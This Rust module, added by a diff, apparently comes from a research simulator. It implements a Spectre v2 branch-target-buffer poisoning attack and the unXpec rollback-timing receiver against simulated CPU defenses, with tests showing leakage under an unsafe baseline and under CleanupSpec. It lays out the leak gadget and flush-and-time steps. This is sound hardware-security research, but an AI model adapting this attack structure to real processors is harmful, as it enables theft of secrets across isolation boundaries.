@@ -1,0 +1,216 @@
+//! Spectre v2 (BTB poisoning) triggers, and unXpec through them.
+//!
+//! The paper's attack uses a conditional-branch (v1) trigger, but the
+//! rollback-timing channel is trigger-agnostic: *any* squash rolls back
+//! whatever the transient path installed. This module poisons the BTB
+//! so the victim's indirect jump transiently executes a leak gadget,
+//! then demonstrates both receivers:
+//!
+//! * the classic cache-contents probe (works against the unsafe
+//!   baseline, erased by CleanupSpec), and
+//! * the unXpec rollback-timing measurement (works against CleanupSpec
+//!   — the channel does not care how the mis-speculation was induced).
+
+use unxpec_cpu::{Core, Defense, Program, ProgramBuilder, Reg};
+use unxpec_mem::Addr;
+
+use crate::eviction::probe_latency;
+use crate::layout::AttackLayout;
+use crate::sender::RoundRegs;
+
+const R_TGT: Reg = Reg(1);
+const R_TMP: Reg = Reg(3);
+const R_SEC: Reg = Reg(4);
+const R_V: Reg = Reg(5);
+const R_K: Reg = Reg(6);
+const R_X: Reg = Reg(7);
+const R_ABASE: Reg = Reg(10);
+const R_PBASE: Reg = Reg(11);
+const R_ADDR: Reg = Reg(12);
+const R_TPTR: Reg = Reg(13);
+const R_IDX: Reg = Reg(14);
+
+/// A Spectre-v2-triggered attacker instance.
+#[derive(Debug)]
+pub struct SpectreV2 {
+    core: Core,
+    layout: AttackLayout,
+    round: Program,
+    victim_touch: Program,
+    regs: RoundRegs,
+    jump_pc: usize,
+    gadget_pc: usize,
+}
+
+/// Result of one v2 round.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct V2Observation {
+    /// Receiver-observed latency across the poisoned jump.
+    pub latency: u64,
+    /// Whether the gadget's probe line was left in the cache (the
+    /// classic contents channel).
+    pub footprint_visible: bool,
+}
+
+impl SpectreV2 {
+    /// Builds the attacker against `defense`.
+    pub fn new(defense: Box<dyn Defense>) -> Self {
+        let mut core = Core::table_i();
+        core.set_defense(defense);
+        let layout = AttackLayout::new(core.hierarchy().config().l1d.sets as u64);
+        layout.install(core.mem_mut(), 1);
+        let (round, jump_pc, gadget_pc) = Self::build_round(&layout);
+        let mut vb = ProgramBuilder::new();
+        vb.mov(Reg(1), layout.secret_addr().raw());
+        vb.load(Reg(2), Reg(1), 0);
+        vb.halt();
+        let mut this = SpectreV2 {
+            core,
+            layout,
+            round,
+            victim_touch: vb.build(),
+            regs: RoundRegs::default(),
+            jump_pc,
+            gadget_pc,
+    
+    };
+        // One discarded round per secret: the first round pays the
+        // cold-stack / cold-prep misses that later rounds do not.
+        this.measure_bit(false);
+        this.measure_bit(true);
+        this
+    }
+
+    /// One measurement round: the victim's indirect jump (its actual
+    /// target loaded from flushed memory, opening the speculation
+    /// window) transiently executes the gadget because the attacker
+    /// poisoned the BTB.
+    fn build_round(layout: &AttackLayout) -> (Program, usize, usize) {
+        let regs = RoundRegs::default();
+        let mut b = ProgramBuilder::new();
+        b.mov(R_ABASE, layout.a_base().raw());
+        b.mov(R_PBASE, layout.probe().base().raw());
+        b.mov(R_IDX, layout.oob_index());
+        // The benign target pointer lives in the chain node; flush it so
+        // target resolution is slow (the v2 analogue of f(1)).
+        b.mov(R_TPTR, layout.chain_node(0).raw());
+        // Preparation: P[0] (the secret-0 target) warm, P[64] flushed.
+        b.load(R_X, R_PBASE, 0);
+        b.flush(R_TPTR, 0);
+        b.flush(R_PBASE, 64);
+        b.fence();
+        b.rdtsc(regs.t1);
+        b.load(R_TGT, R_TPTR, 0); // slow: actual target arrives late
+        let jump_pc = b.here();
+        b.jump_ind(R_TGT);
+        // --- leak gadget (only ever executed transiently) ---
+        let gadget_pc = b.here();
+        b.shl(R_TMP, R_IDX, 3u64);
+        b.add(R_ADDR, R_TMP, R_ABASE);
+        b.load(R_SEC, R_ADDR, 0); // secret
+        b.shl(R_V, R_SEC, 6u64);
+        b.mul(R_K, R_V, 1u64);
+        b.add(R_K, R_K, R_PBASE);
+        b.load(R_X, R_K, 0); // P[64 * secret]
+        b.halt();
+        // --- benign target ---
+        b.label("benign");
+        b.rdtsc(regs.t2);
+        b.halt();
+        let program = b.build();
+        (program, jump_pc, gadget_pc)
+    }
+
+    /// The machine.
+    pub fn core(&self) -> &Core {
+        &self.core
+    }
+
+    /// Runs one round against `secret`.
+    pub fn measure_bit(&mut self, secret: bool) -> V2Observation {
+        self.layout.set_secret(self.core.mem_mut(), secret);
+        // The benign target the victim actually takes.
+        let benign = self.round.label("benign").expect("benign label");
+        self.core
+            .mem_mut()
+            .write_u64(self.layout.chain_node(0), benign as u64);
+        self.core.run(&self.victim_touch);
+        // Poison: the attacker drives the BTB entry for the victim's
+        // jump toward the gadget. (Done directly on the BTB — the same
+        // effect as executing an attacker-controlled congruent jump.)
+        self.core.btb_mut().update(self.jump_pc, self.gadget_pc);
+        // The probe line must be cold for both receivers.
+        let probe = Addr::new(self.layout.probe().base().raw() + 64);
+        let r = self.core.run(&self.round);
+        let latency = r.reg(self.regs.t2) - r.reg(self.regs.t1);
+        let reload = probe_latency(&mut self.core, probe);
+        V2Observation {
+            latency,
+            footprint_visible: reload < 60,
+        }
+    }
+
+    /// Calibrates and returns the mean secret-dependent timing
+    /// difference over `samples` rounds per secret (the unXpec receiver
+    /// on a v2 trigger).
+    pub fn timing_difference(&mut self, samples: usize) -> f64 {
+        let mut sum0 = 0.0;
+        let mut sum1 = 0.0;
+        for _ in 0..samples {
+            sum0 += self.measure_bit(false).latency as f64;
+            sum1 += self.measure_bit(true).latency as f64;
+        }
+        (sum1 - sum0) / samples as f64
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use unxpec_cpu::UnsafeBaseline;
+    use unxpec_defense::CleanupSpec;
+
+    #[test]
+    fn v2_footprint_leaks_against_unsafe_baseline() {
+        let mut attacker = SpectreV2::new(Box::new(UnsafeBaseline));
+        let ob1 = attacker.measure_bit(true);
+        assert!(
+            ob1.footprint_visible,
+            "secret=1 must leave P[64] cached under the baseline"
+        );
+        let ob0 = attacker.measure_bit(false);
+        assert!(
+            !ob0.footprint_visible,
+            "secret=0 never touches P[64]"
+        );
+    }
+
+    #[test]
+    fn v2_footprint_is_erased_by_cleanupspec() {
+        let mut attacker = SpectreV2::new(Box::new(CleanupSpec::new()));
+        let ob = attacker.measure_bit(true);
+        assert!(
+            !ob.footprint_visible,
+            "CleanupSpec must roll the gadget's install back"
+        );
+    }
+
+    #[test]
+    fn unxpec_channel_works_through_a_v2_trigger() {
+        // The rollback-timing channel is trigger-agnostic: a poisoned
+        // indirect jump produces the same secret-dependent cleanup.
+        let mut attacker = SpectreV2::new(Box::new(CleanupSpec::new()));
+        let diff = attacker.timing_difference(12);
+        assert!(
+            (12.0..=35.0).contains(&diff),
+            "v2-triggered rollback difference {diff} ~ 22"
+        );
+    }
+
+    #[test]
+    fn v2_timing_channel_is_silent_on_the_baseline() {
+        let mut attacker = SpectreV2::new(Box::new(UnsafeBaseline));
+        let diff = attacker.timing_difference(12).abs();
+        assert!(diff < 6.0, "no rollback, no channel: {diff}");
+    }
+}
